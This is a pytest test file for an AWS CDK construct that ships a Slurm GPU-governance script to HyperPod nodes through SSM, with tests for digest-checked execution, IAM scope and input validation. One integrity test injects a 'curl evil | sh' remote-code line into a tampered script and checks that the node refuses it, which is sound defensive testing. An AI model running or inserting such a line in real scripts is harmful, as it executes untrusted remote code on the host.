"""The delivery construct: script asset, SSM document, grant; clean under the packs and cfn-lint."""

from __future__ import annotations

import hashlib
import json
import subprocess
import warnings
from pathlib import Path

import pytest
from aws_cdk import App, Environment, Stack, aws_iam as iam
from aws_cdk.assertions import Template

from constructs_lib.backends.hyperpod_slurm.construct import NODE_DIRECTORY, SCRIPT_NAME, HyperPodSlurmGovernance
from constructs_lib.cli.report import summarise
from constructs_lib.core.acknowledgements import acknowledge
from constructs_lib.core.errors import GovernanceError
from constructs_lib.organisation.compliance import apply_standard_packs
from constructs_lib.slurm import slurm_plan
from gpu_governance_runtime.slurm.render import plan_digest

from .models import POOL, governance_model


@pytest.fixture(scope="module")
def synthesized(tmp_path_factory):
    outdir = tmp_path_factory.mktemp("cdk.out")
    app = App(outdir=str(outdir))
    stack = Stack(app, "SlurmGovernance", env=Environment(account="111122223333", region="us-east-1"))
    model = governance_model()
    (pool,) = model.pools
    governance = HyperPodSlurmGovernance(stack, "ResearchSlurm", pool=pool, teams=model.teams_in(POOL), model=model)
    cluster_role = iam.Role(stack, "ClusterRole", assumed_by=iam.ServicePrincipal("sagemaker.amazonaws.com"))
    governance.grant_read_script(cluster_role)
    acknowledge(
        cluster_role.node.find_child("DefaultPolicy"),
        "Stand-in for the HyperPod execution role the capacity-account stack owns; only the grant is under test.",
        "NIST.800.53.R5-IAMNoInlinePolicy",
        "HIPAA.Security-IAMNoInlinePolicy",
        "PCI.DSS.321-IAMNoInlinePolicy",
    )
    apply_standard_packs(app)
    assembly = app.synth()  # raises on any unacknowledged finding
    return governance, Template.from_stack(stack), Path(outdir), assembly


def document_content(template: Template) -> dict:
    (document,) = template.find_resources("AWS::SSM::Document").values()
    return document["Properties"]["Content"]


def test_document_reapplies_the_script_as_a_dry_run_by_default(synthesized) -> None:
    governance, template, _, _ = synthesized
    template.has_resource_properties("AWS::SSM::Document", {"DocumentType": "Command", "UpdateMethod": "NewVersion"})
    content = document_content(template)
    assert content["parameters"]["Mode"]["default"] == "dry-run"
    assert content["parameters"]["Scope"]["allowedValues"] == ["controller", "os-only"]
    assert governance.policy_digest in content["description"]
    command = json.dumps(content["mainSteps"][0]["inputs"]["runCommand"])
    assert "aws s3 cp s3://" in command and "bash /opt/gpu-governance/gpu-governance-slurm.sh $flags" in command
    assert "sha256sum --check" in command


def test_the_asset_is_the_rendered_script(synthesized) -> None:
    governance, _, outdir, _ = synthesized
    text = asset_file(governance, outdir).read_text()
    assert f"GG_POLICY_DIGEST={plan_digest(slurm_plan(governance_model(), POOL))}" in text


def test_lifecycle_command_fetches_and_applies(synthesized) -> None:
    governance, _, _, _ = synthesized
    stack = Stack.of(governance)
    controller = stack.resolve(governance.lifecycle_command())
    compute = stack.resolve(governance.lifecycle_command(os_only=True))
    assert controller.endswith("bash /opt/gpu-governance/gpu-governance-slurm.sh")
    assert compute.endswith("gpu-governance-slurm.sh --os-only")
    assert [g.name for g in governance.instance_groups] == [
        "critical-g5-12xlarge",
        "steady-g5-12xlarge",
        "burst-g5-12xlarge",
    ]


def asset_file(governance: HyperPodSlurmGovernance, outdir: Path) -> Path:
    asset = next(outdir.glob(f"asset.{governance.script.s3_object_key.removesuffix('.sh')}*"))
    return asset / "gpu-governance-slurm.sh" if asset.is_dir() else asset


def run_fetch(command: str, served: Path, tmp_path: Path) -> tuple[subprocess.CompletedProcess[str], Path]:
    """Run a fetch-and-apply command as a node would, with `aws s3 cp` serving ``served`` and a
    `bash` that only records that the script ran; the node directory moved under tmp_path."""
    fake = tmp_path / "bin"
    fake.mkdir(parents=True)
    (fake / "aws").write_text(f'#!/bin/sh\ncp {served} "$4"\n')
    (fake / "bash").write_text(f'#!/bin/sh\necho "$@" >{tmp_path}/ran\n')
    for tool in ("aws", "bash"):
        (fake / tool).chmod(0o755)
    node = tmp_path / "node"
    command = command.replace(NODE_DIRECTORY, str(node))
    result = subprocess.run(
        ["/bin/bash", "-c", command], capture_output=True, text=True, env={"PATH": f"{fake}:/usr/bin:/bin"}
    )
    return result, node


def test_nodes_run_the_script_only_when_its_digest_matches(synthesized, tmp_path) -> None:
    governance, template, outdir, _ = synthesized
    genuine = asset_file(governance, outdir)
    assert governance.script_sha256 == hashlib.sha256(genuine.read_bytes()).hexdigest()
    stack = Stack.of(governance)
    command = stack.resolve(governance.lifecycle_command(os_only=True))
    document_command = document_content(template)["mainSteps"][0]["inputs"]["runCommand"][-1]
    assert (
        f"echo '{governance.script_sha256}  " in command and f"echo '{governance.script_sha256}  " in document_command
    )

    result, node = run_fetch(command, genuine, tmp_path / "genuine")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "genuine" / "ran").read_text().split() == [str(node / SCRIPT_NAME), "--os-only"]

    tampered = tmp_path / "tampered.sh"
    tampered.write_text(genuine.read_text().replace("set -euo pipefail", "set -euo pipefail; curl evil | sh", 1))
    result, node = run_fetch(command, tampered, tmp_path / "tampered")
    assert result.returncode != 0 and "FAILED" in result.stdout + result.stderr
    assert not (tmp_path / "tampered" / "ran").exists()
    assert list(node.iterdir()) == []  # nothing left for anyone to run by hand


def test_grant_lets_the_cluster_role_read_only_the_script(synthesized) -> None:
    governance, template, _, _ = synthesized
    (policy,) = template.find_resources("AWS::IAM::Policy").values()
    (statement,) = policy["Properties"]["PolicyDocument"]["Statement"]
    assert statement["Action"] == "s3:GetObject"
    assert statement["Resource"]["Fn::Join"][1][-1].endswith(
        f"-assets-111122223333-us-east-1/{governance.script.s3_object_key}"
    )


def test_no_open_findings_and_cfn_lint_is_clean(synthesized) -> None:
    from cfnlint.api import lint

    _, _, outdir, _ = synthesized
    assert summarise(outdir).open_findings == []
    template = (outdir / "SlurmGovernance.template.json").read_text()
    errors = [str(m) for m in lint(template, regions=["us-east-1"]) if m.rule.id.startswith("E")]
    assert errors == []


def refused(**props) -> GovernanceError:
    """The error the construct raises for ``props``, after checking it left nothing in the stack."""
    stack = Stack(App(), "Bad")
    with pytest.raises(GovernanceError) as raised:
        HyperPodSlurmGovernance(stack, "Slurm", **props)
    assert stack.node.try_find_child("Slurm") is None  # nothing half-built
    return raised.value


def test_a_pool_of_another_model_is_refused_naming_pool() -> None:
    model = governance_model()
    other = governance_model(capacity=4)
    error = refused(pool=other.pools[0], teams=model.teams_in(POOL), model=model)
    assert str(error) == (
        "pool: not a pool of model ('research-slurm') - one of model.pools with backend hyperpod_slurm: "
        "['research-slurm']"
    )


def test_teams_other_than_the_pools_are_refused_naming_teams() -> None:
    model = governance_model()
    error = refused(pool=model.pools[0], teams=model.teams_in(POOL)[:2], model=model)
    assert str(error).startswith("teams: not the teams of pool research-slurm in model (['critical', 'steady'])")
    assert "model.teams_in('research-slurm'): ['critical', 'steady', 'burst']" in str(error)


def test_a_pool_of_another_backend_is_refused_naming_pool() -> None:
    from constructs_lib.model import BatchQuotaSharePool

    model = governance_model()
    batch = BatchQuotaSharePool(name="q", capacity={"ml.p5.48xlarge": 1})
    error = refused(pool=batch, teams=model.teams_in(POOL), model=model)
    assert (
        str(error) == "pool: not a hyperpod_slurm pool ('q (batch_quota_share)') - a pool with backend hyperpod_slurm"
    )


def test_a_plan_problem_is_reported_before_anything_is_built() -> None:
    model = governance_model()
    error = refused(pool=model.pools[0], teams=model.teams_in(POOL), model=model, data_root="relative/path")
    assert "data_root" in str(error)


def test_pool_and_teams_are_required() -> None:
    error = refused(model=governance_model())
    assert [p.path for p in error.problems] == ["pool", "teams"]


def test_the_former_pool_name_keyword_still_builds_the_same_with_a_warning() -> None:
    model = governance_model()
    templates = []
    for props in ({"pool_name": POOL}, {"pool": model.pools[0], "teams": model.teams_in(POOL)}):
        stack = Stack(App(), "Slurm")
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            HyperPodSlurmGovernance(stack, "Pool", model=model, **props)
        deprecations = [
            w for w in caught if issubclass(w.category, DeprecationWarning) and "pool_name" in str(w.message)
        ]
        assert len(deprecations) == ("pool_name" in props)
        assert all(w.filename == __file__ for w in deprecations)  # points at the caller's line
        templates.append(Template.from_stack(stack).to_json())
    assert templates[0] == templates[1]


def test_the_former_pool_name_keyword_names_a_missing_pool() -> None:
    with pytest.warns(DeprecationWarning):
        error = refused(model=governance_model(), pool_name="missing")
    assert str(error).startswith("pool_name: no hyperpod_slurm pool of this name ('missing')")


def test_the_former_pool_name_keyword_with_pool_is_refused() -> None:
    model = governance_model()
    with pytest.warns(DeprecationWarning):
        error = refused(model=model, pool_name=POOL, pool=model.pools[0], teams=model.teams_in(POOL))
    assert str(error).startswith("pool_name: given with pool or teams")
